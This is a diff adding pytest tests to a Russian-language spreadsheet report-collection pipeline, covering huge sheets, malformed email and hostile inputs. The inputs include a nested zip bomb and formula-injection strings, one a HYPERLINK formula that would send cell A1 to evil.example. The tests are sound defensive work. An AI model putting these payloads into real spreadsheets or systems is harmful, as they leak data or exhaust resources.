@@ -246,3 +246,100 @@ def test_sigkill_at_random_points_loses_nothing(small_inbox: Path, tmp_path: Pat
             _content(report)  # a complete workbook, never a half-written one
     subprocess.run([sys.executable, "-c", COLLECT, str(small_inbox), str(out)], check=True)
     assert _content(out / "Свод_2026-04.xlsx") == _content(reference / "Свод_2026-04.xlsx")
+
+
+def test_far_cells_and_wide_sheets(tmp_path: Path, campaign: Campaign) -> None:
+    from shkmd_xl.pipeline import check
+
+    far = xlsxwriter.Workbook(str(tmp_path / "far.xlsx"))
+    ws = far.add_worksheet(F.ROADMAP.name)
+    ws.write_row(0, 0, F.ROADMAP.labels)
+    ws.write(1_048_575, 16_383, "угол")  # XFD1048576
+    far.close()
+    wide = xlsxwriter.Workbook(str(tmp_path / "wide.xlsx"), {"constant_memory": True})
+    ws = wide.add_worksheet(F.ROADMAP.name)
+    ws.write_row(0, 0, [f"столбец {i}" for i in range(16_384)])
+    wide.close()
+    for name in ("far.xlsx", "wide.xlsx"):
+        started = time.monotonic()
+        report = check(tmp_path / name, campaign, "2026-06")
+        assert time.monotonic() - started < 20
+        assert all(i.code for i in report)
+
+
+def test_nested_zip_bomb_and_many_attachments(tmp_path: Path, templates: dict[str, Path]) -> None:
+    import io
+    from email.message import EmailMessage
+
+    from shkmd_xl.intake import Candidate, Refused, scan
+
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("бомба.xlsx", b"\0" * (150 * 1024 * 1024))
+    outer = io.BytesIO()
+    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("вложенный.zip", inner.getvalue())
+    (tmp_path / "nested.zip").write_bytes(outer.getvalue())
+    msg = EmailMessage()
+    msg["From"] = "a@example.ru"
+    msg["Subject"] = "200 вложений"
+    msg.set_content("много")
+    data = templates["SOLN"].read_bytes()
+    for i in range(200):
+        msg.add_attachment(
+            data, maintype="application", subtype="octet-stream", filename=f"Отчёт {i:03d}.xlsx"
+        )
+    (tmp_path / "big.eml").write_bytes(bytes(msg))
+    items = list(scan(tmp_path))
+    refused = [i for i in items if isinstance(i, Refused)]
+    assert len(refused) == 1 and "сжатие" in refused[0].reason
+    assert sum(isinstance(i, Candidate) for i in items) == 200
+
+
+def test_malformed_mime_and_wrong_charset(tmp_path: Path, templates: dict[str, Path]) -> None:
+    import base64
+
+    from shkmd_xl.intake import Candidate, scan
+
+    data = base64.encodebytes(templates["SOLN"].read_bytes()).decode()
+    raw = (
+        "From: =?koi8-r?B?8NLP18XSy8E=?= <x@example.ru>\r\n"
+        "Subject: =?utf-8?B?broken\r\n"
+        'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
+        '--B\r\nContent-Type: text/plain; charset="no-such-charset"\r\n\r\n\xe9\xe9\r\n'
+        "--B\r\nContent-Type: application/octet-stream\r\n"
+        "Content-Disposition: attachment; filename*=utf-8''%D0%9E%D1%82%D1%87%D1%91%D1%82.xlsx\r\n"
+        "Content-Transfer-Encoding: base64\r\n\r\n" + data + "\r\n--B"
+    )  # no closing --
+    (tmp_path / "bad.eml").write_bytes(raw.encode("latin-1"))
+    (item,) = list(scan(tmp_path))
+    assert isinstance(item, Candidate) and item.name == "Отчёт.xlsx"
+    assert item.data == templates["SOLN"].read_bytes()
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "=HYPERLINK("])
+def test_formula_like_text_stays_text_everywhere(
+    tmp_path: Path, templates: dict[str, Path], campaign: Campaign, prefix: str
+) -> None:
+    from .fills import fill_with_openpyxl, good_fill
+
+    fill = good_fill(campaign, "SOLN", "2026-06")
+    text = prefix + '"http://evil.example/"&A1)' if prefix.endswith("(") else prefix + "1+1"
+    for key in ("event", "responsible_position", "expected", "evidence"):
+        fill.set(F.ROADMAP, 0, key, text)
+    fill.set(F.ROADMAP, 1, "responsible", text)  # also a finding: a feedback copy is made
+    inbox = tmp_path / "in"
+    inbox.mkdir()
+    fill_with_openpyxl(templates["SOLN"], fill, inbox / "r.xlsx")
+    result = collect(inbox, "2026-06", campaign, tmp_path / "out", workers=1)
+    outputs = [result.outputs["regional"], *result.feedback]
+    for path in outputs:
+        with zipfile.ZipFile(path) as z:
+            assert not any("vbaProject" in n for n in z.namelist())
+            for name in z.namelist():
+                if name.startswith("xl/worksheets/sheet"):
+                    xml = z.read(name).decode()
+                    assert f"<f>{text[1:]}" not in xml and f"<f>{text}" not in xml
+    rows = openpyxl.load_workbook(result.outputs["regional"])["Дорожные карты"]
+    cells = [c for row in rows.iter_rows(min_row=2) for c in row if c.value == text]
+    assert len(cells) >= 4 and all(c.data_type == "s" for c in cells)
